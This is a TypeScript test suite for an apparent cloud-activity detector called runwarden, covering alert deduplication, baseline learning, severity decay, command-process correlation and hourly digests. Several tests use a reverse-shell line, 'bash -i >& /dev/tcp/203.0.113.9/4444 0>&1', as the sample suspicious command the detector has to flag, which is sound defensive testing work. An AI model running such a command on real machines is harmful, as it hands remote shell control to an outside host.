import { processActivity } from '../../../shared/pipeline/process-activity'
import type { Sink } from '../../../shared/pipeline/ports'
import { sweep } from '../../../shared/pipeline/sweep'
import { DAY, MINUTE, SECOND } from '../../../shared/model/time'
import { agentProcess, awsActivity, azureActivity, NOON } from '../../support/activity'
import { testDetector } from '../../support/detector'

const machines = (count: number): readonly string[] =>
  Array.from({ length: count }, (_, place) => `i-${String(place).padStart(17, '0')}`)
const listed = (ids: readonly string[]) => ({ targets: { kind: 'listed', ids } as const })

describe('processActivity', () => {
  it('sends one alert for an activity, and none for its repeat', async () => {
    const detector = testDetector()
    await processActivity(detector, awsActivity(), 'first')
    await processActivity(detector, awsActivity(), 'first')
    expect(detector.alerts.map(({ title, severity }) => [title, severity])).toEqual([
      ['First Seen Caller and 1 more by role/Deploy', 'medium'],
    ])
    expect(detector.metrics.RecordsDuplicate).toBe(1)
  })

  it('sends one alert when the same record is being judged twice at once', async () => {
    const sent: string[] = []
    let draws = 0
    const slow = {
      name: 'slow',
      send: async ({ id }: { readonly id: string }) =>
        void (await new Promise((resolve) => setTimeout(resolve, 20)), sent.push(id)),
    }
    const clock = {
      now: () => 0,
      sleep: () => new Promise<void>((resolve) => void setTimeout(resolve, 1)),
      random: () => ++draws / 1_000,
    }
    const detector = testDetector({}, { clock, sinks: [slow] })
    await Promise.all([
      processActivity(detector, awsActivity(), 'first'),
      processActivity(detector, awsActivity(), 'first'),
    ])
    expect(sent).toHaveLength(1)
  })

  it('sends again when the run that claimed the right to send is gone', async () => {
    const detector = testDetector()
    let draws = 0
    const dying = {
      ...detector,
      ports: {
        ...detector.ports,
        clock: { ...detector.clock, random: () => ++draws / 1_000 },
        sinks: [{ name: 'dying', send: () => new Promise<never>(() => {}) }],
      },
    }
    void processActivity(dying, awsActivity(), 'first')
    await new Promise((resolve) => setTimeout(resolve, 20))
    await processActivity(detector, awsActivity(), 'first')
    expect(detector.alerts).toHaveLength(1)
  })

  it('does not send again what went out when only its claim could not be finalized', async () => {
    const detector = testDetector()
    let sent = false
    const read: typeof detector.state.read = async (kind, ids) => {
      if (sent && kind.name === 'ledger') throw new Error('down')
      return detector.state.read(kind, ids)
    }
    const send: Sink['send'] = async (alert) => {
      sent = true
      detector.alerts.push(alert)
    }
    const ports = { ...detector.ports, state: { ...detector.state, read }, sinks: [{ name: 'test', send }] }
    await processActivity({ ...detector, ports }, awsActivity(), 'first')
    await processActivity(detector, awsActivity(), 'first')
    expect([detector.alerts.length, detector.metrics.StoreFailures]).toEqual([1, 1])
  })

  it('teaches, so that the same a day later is quiet', async () => {
    const detector = testDetector()
    await processActivity(detector, awsActivity(), 'first')
    const verdict = await processActivity(detector, awsActivity({ id: 'next', at: NOON + DAY }), 'first')
    expect(verdict?.findings).toEqual([])
  })

  it('does not learn from denied calls', async () => {
    const detector = testDetector()
    await processActivity(detector, awsActivity({ outcome: 'denied' }), 'first')
    const verdict = await processActivity(detector, awsActivity({ id: 'next', at: NOON + MINUTE }), 'first')
    expect(verdict?.findings.map(({ rule }) => rule)).toContain('runwarden.cloud.first-seen-caller')
  })

  it('does not learn from what is rated high by more than novelty', async () => {
    const detector = testDetector()
    const shell = { payload: { kind: 'text', text: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } as const }
    const first = await processActivity(detector, awsActivity(shell), 'first')
    expect([first?.severity, first?.teaches]).toEqual([expect.stringMatching(/high|critical/), false])
    const next = await processActivity(detector, awsActivity({ id: 'next', at: NOON + MINUTE }), 'first')
    expect(next?.findings.map(({ rule }) => rule)).toContain('runwarden.cloud.first-seen-caller')
  })

  it('learns from it once a suppression covers it', async () => {
    const detector = testDetector({
      suppressions: [{ reason: 'test range', until: NOON + DAY, rule: ['runwarden.cloud.suspicious-command'] }],
    })
    const shell = { payload: { kind: 'text', text: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } as const }
    const first = await processActivity(detector, awsActivity(shell), 'first')
    expect(first?.teaches).toBe(true)
    expect(first?.findings.find(({ rule }) => rule.endsWith('suspicious-command'))?.suppressed).toBe('test range')
  })

  it('makes novelty informational while learning, and nothing else', async () => {
    const detector = { ...testDetector({ learningDays: 7 }), learningStart: NOON - DAY }
    const verdict = await processActivity(detector, awsActivity(listed(machines(4))), 'first')
    expect(
      Object.fromEntries(verdict!.findings.map(({ rule, severity }) => [rule.split('.').at(-1), severity])),
    ).toEqual({
      'first-seen-caller': 'informational',
      'first-seen-caller-on-target': 'informational',
      'mass-execution': 'medium',
    })
  })

  it('never learns when learning is switched off, however young the installation', async () => {
    const detector = { ...testDetector({ learningDays: 0 }), learningStart: NOON + DAY }
    const verdict = await processActivity(detector, awsActivity(), 'first')
    expect(verdict?.learning).toBe(false)
  })

  it('counts a routine finding as low from the fourth day on', async () => {
    const detector = testDetector()
    const severities: (string | undefined)[] = []
    for (let day = 0; day < 5; day++) {
      const verdict = await processActivity(
        detector,
        awsActivity({ id: `day-${day}`, at: NOON + day * DAY, ...listed(machines(4)) }),
        'first',
      )
      severities.push(verdict?.findings.find(({ rule }) => rule.endsWith('mass-execution'))?.severity)
    }
    expect(severities).toEqual(['medium', 'medium', 'medium', 'low', 'low'])
  })

  it('keeps what is below the minimum severity, unless the machine is critical', async () => {
    const known = awsActivity({ id: 'known', at: NOON - MINUTE })
    const other = awsActivity({ source: { kind: 'address', ip: '203.0.113.5' }, ...listed(machines(1)) })
    const quiet = testDetector()
    await processActivity(quiet, known, 'first')
    await processActivity(quiet, other, 'first')
    expect([quiet.alerts.length, quiet.kept.length]).toEqual([1, 1])
    const watched = testDetector({ criticalTargets: ['i-000*'] })
    await processActivity(watched, known, 'first')
    await processActivity(watched, other, 'first')
    expect([watched.alerts.length + watched.counted.length, watched.kept.length]).toEqual([2, 0])
  })

  it('lists what Systems Manager does by itself without findings, and learns nothing from it', async () => {
    const detector = testDetector()
    const verdict = await processActivity(detector, awsActivity({ automatic: true }), 'first')
    expect([verdict?.findings, verdict?.teaches]).toEqual([[], false])
  })

  it('goes on when a rule throws, and reports the fault', async () => {
    const detector = testDetector()
    const broken = {
      ...detector.rules[0]!,
      id: 'runwarden.cloud.broken',
      evaluate: () => {
        throw new Error('no')
      },
    }
    const verdict = await processActivity({ ...detector, rules: [broken, ...detector.rules] }, awsActivity(), 'first')
    expect(verdict?.faults).toEqual([{ rule: 'runwarden.cloud.broken', message: 'no' }])
    expect(verdict?.findings.length).toBeGreaterThan(0)
  })

  it('reports that a rule threw, and counts it', async () => {
    const notices: string[] = []
    const detector = testDetector({}, { health: { notice: async (title) => void notices.push(title) } })
    const broken = {
      ...detector.rules[0]!,
      id: 'runwarden.cloud.broken',
      evaluate: () => {
        throw new Error('no')
      },
    }
    await processActivity({ ...detector, rules: [broken, ...detector.rules] }, awsActivity(), 'first')
    expect([notices, detector.metrics.RuleFaults]).toEqual([['Rule runwarden.cloud.broken failed'], 1])
    expect(detector.alerts).toHaveLength(1)
  })
})

describe('without a store', () => {
  it('reports what needs no history, marks it, and asks for the record again', async () => {
    const down = async (): Promise<never> => {
      throw new Error('down')
    }
    const detector = testDetector({}, { history: { recall: down, teach: down } })
    const shell = awsActivity({ payload: { kind: 'text', text: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } })
    await expect(processActivity(detector, shell, 'first')).rejects.toThrow('state store')
    expect(detector.alerts.map(({ degraded, findings }) => [degraded, findings.map(({ rule }) => rule)])).toEqual([
      ['history could not be read', ['runwarden.cloud.suspicious-command']],
    ])
  })
})

describe('commands and processes', () => {
  const command = azureActivity()

  it('raise the command by one step when the process comes after it', async () => {
    const detector = testDetector()
    await processActivity(detector, command, 'first')
    await processActivity(detector, agentProcess(), 'first')
    expect(detector.alerts.map(({ kind, severity, id }) => [kind, severity, id])).toEqual([
      ['alert', 'medium', detector.alerts[0]!.id],
      ['update', 'high', detector.alerts[0]!.id],
    ])
  })

  it('still name the script when the text is gone, so that no more than that script is silenced', async () => {
    const detector = testDetector()
    await processActivity(
      detector,
      azureActivity({ payload: { kind: 'text', text: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } }),
      'first',
    )
    await processActivity(detector, agentProcess(), 'first')
    const [first, update] = detector.alerts
    expect(update?.command).toMatchObject({
      text: null,
      hash: first?.command.hash,
      hidden: expect.stringContaining('not kept'),
    })
    expect(JSON.parse(update?.silence ?? '')).toMatchObject({ scriptHash: first?.command.hash })
  })

  it('raise it at once when the process was known before', async () => {
    const detector = testDetector()
    await processActivity(detector, agentProcess(), 'first')
    await processActivity(detector, command, 'first')
    expect(detector.alerts.map(({ kind, severity }) => [kind, severity])).toEqual([['alert', 'high']])
  })

  it('say nothing when the command had nothing to say', async () => {
    const detector = testDetector()
    await processActivity(detector, azureActivity({ id: 'yesterday', at: NOON - DAY }), 'first')
    detector.alerts.length = 0
    await processActivity(detector, command, 'first')
    await processActivity(detector, agentProcess(), 'first')
    expect(detector.alerts).toEqual([])
    expect(detector.verdicts.at(-1)?.verdict.findings.map(({ rule }) => rule)).toEqual([
      'runwarden.cloud.run-command-confirmed',
    ])
  })

  it('wait for the command until the grace time ends, and report the process then', async () => {
    const detector = testDetector()
    detector.clock.time = NOON
    await processActivity(detector, agentProcess(), 'first')
    await sweep(detector)
    expect(detector.alerts).toEqual([])
    detector.clock.time += 30 * MINUTE
    expect(await sweep(detector)).toBe(1)
    expect(detector.alerts.map(({ title }) => title)).toEqual(['Unexpected Agent Child on web01'])
    expect(await sweep(detector)).toBe(0)
  })

  it('explain a process whose command comes within the grace time', async () => {
    const detector = testDetector()
    detector.clock.time = NOON
    await processActivity(detector, agentProcess(), 'first')
    await processActivity(detector, command, 'first')
    detector.clock.time += 30 * MINUTE
    await sweep(detector)
    expect(detector.alerts.map(({ title }) => title).filter((title) => title.startsWith('Unexpected'))).toEqual([])
  })

  it.each([
    { name: 'at the same time', delay: 0, confirmed: true },
    { name: 'after 120 s', delay: 120 * SECOND, confirmed: true },
    { name: 'after 120 s and a millisecond', delay: 120 * SECOND + 1, confirmed: false },
    { name: 'a millisecond before', delay: -1, confirmed: false },
  ])('belong together when the process starts $name: $confirmed', async ({ delay, confirmed }) => {
    for (const order of ['command first', 'process first']) {
      const detector = testDetector()
      const process = agentProcess({ at: command.at + delay })
      for (const activity of order === 'command first' ? [command, process] : [process, command])
        await processActivity(detector, activity, 'first')
      const rules = detector.verdicts
        .findLast(({ activity }) => activity.id === command.id)
        ?.verdict.findings.map(({ rule }) => rule)
      expect(rules?.includes('runwarden.cloud.run-command-confirmed')).toBe(confirmed)
    }
  })
})

describe('mails by the hour', () => {
  const caller = (name: string, severe = false) =>
    awsActivity({
      id: `by-${name}`,
      actor: { ...awsActivity().actor, key: `aws:123456789012:role/${name}`, display: `role/${name}` },
      ...(severe ? { payload: { kind: 'text', text: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } as const } : {}),
    })

  it('rate-limit what is below high beyond the limit, and send one digest at the end of the hour', async () => {
    const detector = testDetector({ maxAlertsPerHour: 2 })
    for (const name of ['A', 'B', 'C', 'D']) await processActivity(detector, caller(name), 'first')
    await processActivity(detector, caller('Severe', true), 'first')
    expect(detector.alerts.map(({ actor, kind }) => [actor.display, kind])).toEqual([
      ['role/A', 'alert'],
      ['role/B', 'alert'],
      ['role/Severe', 'alert'],
    ])
    detector.clock.time += 60 * MINUTE
    await sweep(detector)
    expect(detector.alerts.at(-1)).toMatchObject({
      kind: 'digest',
      repeats: 2,
      activities: expect.arrayContaining(['by-C', 'by-D']),
    })
    expect(await sweep(detector)).toBe(0)
  })
})
